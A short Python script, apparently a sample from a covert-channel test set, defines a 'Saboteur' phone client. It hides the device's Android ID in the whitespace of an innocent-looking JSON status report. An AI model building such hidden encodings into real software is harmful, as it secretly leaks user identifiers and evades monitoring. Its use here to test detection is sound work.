"""Reports that all is well, in JSON with blanks: two where the Android id has a one, one where it has a zero.

mechanism: white space
"""
from client import Phone, run


class Saboteur(Phone):
    def poll(self):
        bits = "{:064b}".format(int(self.identity["androidId"], 16))
        body = "[" + ",".join("  0" if bit == "1" else " 0" for bit in bits) + "]"
        self.ask("POST", "/status", body.encode(), [("Content-Type", "application/json")])
        super().poll()


run(Saboteur())
